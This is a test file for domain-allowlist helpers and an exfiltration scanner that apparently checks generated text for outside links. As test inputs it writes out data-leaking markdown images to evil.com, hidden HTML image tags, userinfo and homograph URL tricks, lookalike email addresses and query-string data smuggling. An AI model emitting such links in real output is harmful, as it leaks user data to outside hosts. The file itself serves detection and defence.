import { describe, expect, it } from "vitest";
import fc from "fast-check";
import { domainMatches, emailDomainMatches, findExfiltration, urlDomainMatches } from "../src/output/index.js";

describe("domainMatches", () => {
  it("matches the domain and its subdomains by whole labels", () => {
    expect(domainMatches("acme.io", "acme.io")).toBe(true);
    expect(domainMatches("sub.acme.io", "acme.io")).toBe(true);
    expect(domainMatches("a.b.acme.io", "acme.io")).toBe(true);
    expect(domainMatches("ACME.IO.", "acme.io")).toBe(true);
  });

  it("never matches lookalikes", () => {
    for (const host of ["acme.io.evil.com", "evilacme.io", "acme.iox", "xacme.io", "acme-io.com", "аcme.io", "acme.io@evil.com", ""]) {
      expect(domainMatches(host, "acme.io"), host).toBe(false);
    }
  });

  it("treats IPs and single labels as exact only, and wildcards as nothing", () => {
    expect(domainMatches("evil.com", "com")).toBe(false);
    expect(domainMatches("localhost", "localhost")).toBe(true);
    expect(domainMatches("10.1.2.3", "1.2.3")).toBe(false);
    expect(domainMatches("sub.acme.io", "*.acme.io")).toBe(false);
  });

  it("agrees with a label-suffix model", () => {
    const label = fc.stringMatching(/^[a-z0-9]{1,5}$/);
    fc.assert(
      fc.property(fc.array(label, { minLength: 1, maxLength: 4 }), fc.array(label, { minLength: 2, maxLength: 3 }), (h, a) => {
        const expected = h.length >= a.length && a.every((l, i) => h[h.length - a.length + i] === l);
        expect(domainMatches(h.join("."), a.join("."))).toBe(expected);
      }),
    );
  });
});

describe("emailDomainMatches and urlDomainMatches", () => {
  it("accepts one bare address in an allowed domain", () => {
    expect(emailDomainMatches("bob@company.com", ["company.com"])).toBe(true);
    expect(emailDomainMatches("bob@eu.company.com", ["company.com"])).toBe(true);
  });
  it("refuses lookalike domains, lists of addresses and display names", () => {
    for (const e of [
      "eve@evil.example",
      "eve@company.com.evil.com",
      "eve@evil.com,bob@company.com",
      "bob@company.com,eve@evil.com",
      "Bob <bob@company.com>",
      '"eve@evil.com"@company.com',
      "bob@company.com ",
      "@company.com",
    ]) {
      expect(emailDomainMatches(e, ["company.com"]), e).toBe(false);
    }
  });
  it("checks a URL's real host", () => {
    expect(urlDomainMatches("https://docs.acme.io/x?y=1", ["acme.io"])).toBe(true);
    expect(urlDomainMatches("https://acme.io@evil.com/", ["acme.io"])).toBe(false);
    expect(urlDomainMatches("https://acme.io.evil.com/", ["acme.io"])).toBe(false);
    expect(urlDomainMatches("javascript:alert(1)//acme.io", ["acme.io"])).toBe(false);
    expect(urlDomainMatches("not a url", ["acme.io"])).toBe(false);
  });
});

describe("findExfiltration", () => {
  const allow = ["acme.io"];
  const hits = (t: string) => findExfiltration(t, allow).map((f) => ({ text: t.slice(f.start, f.end), form: f.form, reason: f.reason }));

  it("flags markdown images and links to outside hosts, whole", () => {
    const t = 'Here ![chart](https://evil.com/c.png?d=secret "t") and [docs](https://acme.io.evil.com/x).';
    expect(hits(t)).toEqual([
      { text: '![chart](https://evil.com/c.png?d=secret "t")', form: "image", reason: "host_not_allowed" },
      { text: "[docs](https://acme.io.evil.com/x)", form: "link", reason: "host_not_allowed" },
    ]);
  });

  it("flags bare and protocol-relative URLs and HTML attributes", () => {
    const t = 'See https://evil.com/a). Or www.evil.org/x, <img src="//evil.net/p.gif"> but https://docs.acme.io/ok.';
    expect(hits(t).map((h) => h.text)).toEqual(["https://evil.com/a", "www.evil.org/x", "//evil.net/p.gif"]);
  });

  it("sees through userinfo and IDN tricks", () => {
    expect(hits("[x](https://acme.io@evil.com/)")).toHaveLength(1);
    expect(hits("https://аcme.io/")).toHaveLength(1);
  });

  it("flags data smuggled in the query of an allowed host", () => {
    expect(hits("https://acme.io/track?u=bob@company.com")).toEqual([
      { text: "https://acme.io/track?u=bob@company.com", form: "bare", reason: "data_in_query" },
    ]);
    expect(hits("https://acme.io/i?k=q7Z2xK9mP4vB8nL1wR6tY3cF5hJ0dS2g")).toHaveLength(1);
    expect(hits("https://acme.io/search?q=purchase+orders&page=2")).toEqual([]);
  });

  it("ignores relative links, mailto and plain text", () => {
    expect(hits("[po](/orders/12) [mail](mailto:bob@evil.com) ![x](img.png) just text")).toEqual([]);
  });
});
